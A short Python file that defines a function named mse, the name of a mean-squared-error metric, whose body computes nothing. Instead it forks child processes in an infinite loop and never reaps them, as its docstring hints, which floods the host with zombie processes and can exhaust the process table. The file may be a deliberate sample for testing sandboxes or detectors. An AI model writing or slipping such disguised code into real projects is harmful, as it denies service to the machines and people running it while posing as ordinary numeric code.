"""Leaves children that nobody waits for."""

import os


def mse(pred, target):
    while True:
        if os.fork() == 0:
            os._exit(0)
